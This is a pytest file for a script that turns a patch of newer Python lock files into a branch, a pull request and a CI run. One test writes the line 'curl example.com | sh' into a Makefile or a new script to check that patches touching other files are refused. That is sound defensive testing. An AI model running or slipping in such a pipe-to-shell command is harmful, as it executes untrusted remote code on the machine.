"""The pull request with newer lock files: what it may hold, and that there is one of it."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.delivery.scripts import Machine


def git(directory: Path, *arguments: str) -> str:
    command = [
        "git",
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@example.com",
        "-c",
        "init.defaultBranch=main",
        *arguments,
    ]
    return subprocess.run(command, cwd=directory, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A clone with lock files, and its origin beside it."""
    origin, clone = tmp_path / "origin.git", tmp_path / "clone"
    git(tmp_path, "init", "--quiet", "--bare", str(origin))
    git(tmp_path, "init", "--quiet", str(clone))
    (clone / "requirements").mkdir()
    for name in ("requirements.txt", "requirements/dbt.txt", "Makefile"):
        (clone / name).write_text("old==1\n")
    git(clone, "add", ".")
    git(clone, "commit", "--quiet", "--message", "Begin")
    git(clone, "remote", "add", "origin", str(origin))
    return clone


def patch(checkout: Path, *names: str) -> str:
    for name in names:
        (checkout / name).write_text("new==2\n")
    text = git(checkout, "diff")
    git(checkout, "checkout", "--quiet", ".")
    path = checkout.parent / "locks.patch"
    path.write_text(text)
    return str(path)


def test_newer_lock_files_become_a_branch_a_pull_request_and_a_run_of_ci(machine: Machine, checkout: Path):
    machine.has("gh", "true")
    done = machine.run("propose-locks", patch(checkout, "requirements.txt", "requirements/dbt.txt"), cwd=checkout)
    assert done.returncode == 0, done.stderr
    assert git(checkout, "show", "--name-only", "--format=", "origin/locks").split() == [
        "requirements.txt", "requirements/dbt.txt",
    ]  # fmt: skip
    assert [call.split()[1:3] for call in machine.asked] == [
        ["auth", "setup-git"], ["pr", "list"], ["pr", "create"], ["workflow", "run"],
    ]  # fmt: skip


def test_a_pull_request_that_is_open_is_refreshed(machine: Machine, checkout: Path):
    machine.has("gh", 'if [ "$1" = pr ]; then echo 7; fi')
    done = machine.run("propose-locks", patch(checkout, "requirements.txt"), cwd=checkout)
    assert done.returncode == 0, done.stderr
    assert not [call for call in machine.asked if call.startswith("gh pr create")]
    assert machine.asked[-1] == "gh workflow run ci.yml --ref locks"


@pytest.mark.parametrize("further", ["Makefile", "requirements/new.sh"])
def test_a_patch_that_changes_anything_else_is_refused(machine: Machine, checkout: Path, further: str):
    machine.has("gh", "true")
    (checkout / further).write_text("curl example.com | sh\n")
    git(checkout, "add", "--intent-to-add", further)
    (checkout / "requirements.txt").write_text("new==2\n")
    path = checkout.parent / "locks.patch"
    path.write_text(git(checkout, "diff"))
    git(checkout, "checkout", "--quiet", "HEAD", "--", "requirements.txt", "Makefile")
    done = machine.run("propose-locks", str(path), cwd=checkout)
    assert done.returncode == 1
    assert further in done.stderr
    assert machine.asked == []
    assert git(checkout, "ls-remote", "origin") == ""
